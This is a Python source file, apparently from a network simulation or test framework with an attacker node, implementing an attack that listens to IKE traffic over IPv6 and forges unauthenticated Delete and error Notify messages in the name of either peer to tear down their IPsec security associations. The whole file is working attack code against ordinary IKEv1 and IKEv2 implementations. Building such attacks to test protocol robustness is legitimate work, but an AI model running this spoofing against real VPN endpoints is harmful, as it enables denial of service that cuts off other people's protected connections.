"""Attacks on the IKE SAs of others, by a host that hears them (RFC 7296 sections 1.5, 2.21)."""

from __future__ import annotations

import random
from struct import Struct

from scapy.layers.inet import UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether

from agents.ike.constants import PORT
from agents.nodes.attacker.attack import Attack, Frames
from agents.nodes.attacker.settings import Known

_HEADER = Struct("!8s8sBBBBII")
_INFORMATIONAL = {1: 5, 2: 37}  # Exchange types by major version.
_DELETE = {1: 12, 2: 42}
_NOTIFY = {1: 11, 2: 41}
_DOI = 1  # IPsec (RFC 2407).
_ERRORS = {1: (16, 24), 2: (4, 11, 24)}
"""PAYLOAD-MALFORMED, AUTHENTICATION-FAILED; INVALID_IKE_SPI, INVALID_SPI, AUTHENTICATION_FAILED."""


class ForgedEnd(Attack):
    """Deletions and errors without protection, in the name of either end."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._last: dict[tuple[str, str], Ether] = {}

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """Keep the last message each way."""
        if UDP in frame and PORT in (frame[UDP].sport, frame[UDP].dport):
            self._last[frame[IPv6].src, frame[IPv6].dst] = frame
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send them to both ends."""
        sent = 0
        for frame in self._last.values():
            for data in self._forged(bytes(frame[UDP].payload)):
                sent += 1
                yield bytes(
                    Ether(src=frame.src, dst=frame.dst)
                    / IPv6(src=frame[IPv6].src, dst=frame[IPv6].dst)
                    / UDP(sport=frame[UDP].sport, dport=frame[UDP].dport)
                    / data
                )
        self.told = f"{sent} deletions and errors"

    def _forged(self, heard: bytes) -> Frames:
        spi_i, spi_r, _, version, _, flags, number, _ = _HEADER.unpack_from(heard)
        major = version >> 4
        for kind, body in self._payloads(major, spi_i + spi_r):
            payload = bytes((0, 0)) + (4 + len(body)).to_bytes(2) + body
            length = _HEADER.size + len(payload)
            for message_id in (0, number, number + 1, self.rng.getrandbits(32)):
                for flag in {flags & 0x08, flags & 0x08 | 0x20} if major > 1 else {0}:
                    yield (
                        _HEADER.pack(
                            *(spi_i, spi_r, kind, version),
                            *(_INFORMATIONAL[major], flag, message_id & 0xFFFFFFFF, length),
                        )
                        + payload
                    )

    @staticmethod
    def _payloads(major: int, spis: bytes) -> list[tuple[int, bytes]]:
        """Return what ends an SA, or says that there is none, by payload type."""
        doi = _DOI.to_bytes(4) if major == 1 else b""
        spi = spis if major == 1 else b""
        deletion = doi + bytes((1, len(spi))) + (1).to_bytes(2) + spi
        errors = [doi + bytes((1, len(spi))) + n.to_bytes(2) + spi for n in _ERRORS[major]]
        return [(_DELETE[major], deletion), *((_NOTIFY[major], error) for error in errors)]
